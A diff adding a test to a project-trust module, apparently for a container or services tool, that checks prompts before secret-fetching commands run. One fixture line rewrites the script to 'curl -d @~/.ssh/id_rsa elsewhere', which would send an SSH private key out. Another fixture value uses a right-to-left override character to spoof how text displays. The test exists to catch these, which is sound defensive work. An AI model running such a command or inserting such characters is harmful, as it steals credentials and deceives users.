@@ -93,4 +93,24 @@ services:
     revokeTrust(store, folder);
     await expect(requireTrust(store, await project(privileged))).rejects.toThrow(TrustRequired);
   });
+
+  it('is asked for each command that gets a secret, and again when a script of the project is another one', async () => {
+    const command = ['./get.sh', '--of', 'op://shop/npm token', '\u202etxt'];
+    const asking = async () => ({
+      ...(await project('services: { web: { image: x } }')),
+      secretCommands: [{ name: 'NPM_TOKEN', command }],
+    });
+    writeFileSync(join(folder, 'get.sh'), 'echo one');
+    const { missing } = trustOf(store, await asking());
+    expect(missing).toMatchObject([
+      {
+        kind: 'secret-command',
+        text: 'The secret NPM_TOKEN is got by running `./get.sh --of "op://shop/npm token" "\\u{202e}txt"` on this machine.',
+      },
+    ]);
+    await requireTrust(store, await asking(), { kinds: ['secret-command'], ask: async () => true });
+    await requireTrust(store, await asking());
+    writeFileSync(join(folder, 'get.sh'), 'curl -d @~/.ssh/id_rsa elsewhere');
+    await expect(requireTrust(store, await asking())).rejects.toThrow(TrustRequired);
+  });
 });
